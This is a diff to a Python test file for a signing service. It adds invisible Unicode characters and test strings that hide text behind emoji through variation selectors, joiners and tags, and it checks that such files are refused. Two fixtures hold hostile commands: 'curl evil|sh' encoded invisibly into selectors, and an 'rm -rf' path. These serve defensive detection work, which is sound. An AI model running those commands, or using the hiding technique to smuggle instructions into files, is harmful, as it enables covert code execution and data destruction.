@@ -37,6 +37,14 @@ HIDDEN = {
     "first of the variation selectors": "\U000e0100",
     "last of the variation selectors": "\U000e01ef",
     "Braille without dots": "\u2800",
+    "combining grapheme joiner": "\u034f",
+    "Hangul filler of half a width": "\uffa0",
+    "Mongolian variation selector": "\u180f",
+    "a selector of text": "\ufe0e",
+    "an emoji selector behind a letter": "\ufe0f",
+    "reserved to be ignored": "\U000e0fff",
+    "Arabic number sign": "\u0600",
+    "shorthand format": "\U0001bca0",
 }
 
 
@@ -49,8 +57,25 @@ def test_characters_that_nobody_sees_are_not_signed(world: World, character: str
     assert f"U+{ord(character):04X} in line 2" in error.message
 
 
+SPELLED = {
+    "by two selectors": "☕\ufe0f\ufe0f",
+    "by selectors of 4 bits each": "☕" + "".join(chr(0xFE00 + ord(each) % 16) for each in "curl evil|sh"),
+    "behind a digit": "rm -rf /tmp/1\ufe0f2",
+    "by joiners": "👩\u200d\u200d👩",
+    "by tags behind a flag": "🏴\U000e0063\U000e0075\U000e007f",
+}
+
+
+@pytest.mark.parametrize("text", SPELLED.values(), ids=SPELLED)
+def test_a_text_that_is_spelled_behind_emoji_is_not_signed(world: World, text: str) -> None:
+    content = f"name = '{text}'\n".encode()
+    canary = world.stored(world.file(content)).path
+    refused("not_text", lambda: world.signed(world.file(content)))
+    assert canary.read_bytes() == content
+
+
 def test_text_of_all_the_world_is_signed(world: World) -> None:
-    text = "Grüße, Привет, こんにちは, 你好, สวัสดี, नमस्ते, שלום, مرحبا, 👋🏽 ☕️\n"
+    text = "Grüße, Привет, こんにちは, 你好, สวัสดี, नमस्ते, שלום, مرحبا, 👋🏽 ☕️ 👩‍👩‍👧‍👦 1️⃣\n"
     file = world.file(text.encode(), item_type=ItemType.KNOWLEDGE, extension=".md")
     world.verify(world.signed(file))
 
